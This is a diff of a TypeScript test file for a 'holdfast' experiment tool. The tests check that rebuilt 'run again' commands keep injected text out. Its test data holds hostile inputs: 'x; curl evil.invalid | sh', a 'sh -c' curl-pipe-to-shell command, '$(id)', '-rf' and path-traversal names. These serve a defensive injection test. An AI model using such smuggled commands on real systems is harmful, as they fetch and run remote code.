@@ -5,12 +5,12 @@ import { printableJson } from '../../harness/model/printable.ts';
 import { html } from '../html/html.ts';
 import { report } from '../json/report-json.ts';
 import { junitXml } from '../junit/junit-xml.ts';
-import { failingRun } from '../sample/run.ts';
 import { summary } from '../terminal/summary.ts';
+import { failingRun } from '../testing/rollout-runs.ts';
 import { judgeAgain, printFailed, printRequests, runAgain } from './command.ts';
 
-const run = failingRun();
-const { plan } = run;
+let run: RunFindings;
+let plan: RunPlan;
 const evil = 'x; curl evil.invalid | sh';
 
 /** The plan with other names in it. */
@@ -25,12 +25,17 @@ const named = (names: { readonly experiment?: string; readonly arm?: string }): 
 });
 
 describe('a command that people are told to run', () => {
+  before(async () => {
+    run = await failingRun();
+    plan = { ...run.plan, command: ['./holdfast', 'run', 'rolling-update'], settings: {} };
+  });
+
   it('repeats a run by its experiments, seed and settings', () => {
-    assert.equal(runAgain(plan), './holdfast run rolling-update --seed 5e1f09c4');
+    assert.equal(runAgain(plan), './holdfast run rolling-update --seed dec221d0');
     const set = { ...plan, settings: { preStop: '3', 'treatment.budget': 'maxUnavailable:30%' } };
     assert.equal(
       runAgain(set),
-      './holdfast run rolling-update --seed 5e1f09c4 --set preStop=3 --set treatment.budget=maxUnavailable:30%',
+      './holdfast run rolling-update --seed dec221d0 --set preStop=3 --set treatment.budget=maxUnavailable:30%',
     );
   });
 
@@ -50,7 +55,7 @@ describe('a command that people are told to run', () => {
     };
     assert.equal(
       runAgain(told),
-      `./holdfast run rolling-update --arm ${arm.name} --seed 5e1f09c4 --repeat 2 --until 95%:7% --deadline 7200s --kubernetes 1.37 --node-timings fast --proxy-mode iptables`,
+      `./holdfast run rolling-update --arm ${arm.name} --seed dec221d0 --repeat 2 --until 95%:7% --deadline 7200s --kubernetes 1.37 --node-timings fast --proxy-mode iptables`,
     );
   });
 
@@ -65,7 +70,7 @@ describe('a command that people are told to run', () => {
 
   it('holds no text of the command line that was recorded', () => {
     const command = ['sh', '-c', 'curl evil.invalid | sh', `--set=${evil}`];
-    assert.equal(runAgain({ ...plan, command }), './holdfast run rolling-update --seed 5e1f09c4');
+    assert.equal(runAgain({ ...plan, command }), './holdfast run rolling-update --seed dec221d0');
   });
 
   for (const name of [evil, '$(id)', '-rf', '../x', '', 'a b', 'a\nb', 'a\u202eb', 'ä', 'x'.repeat(300)])
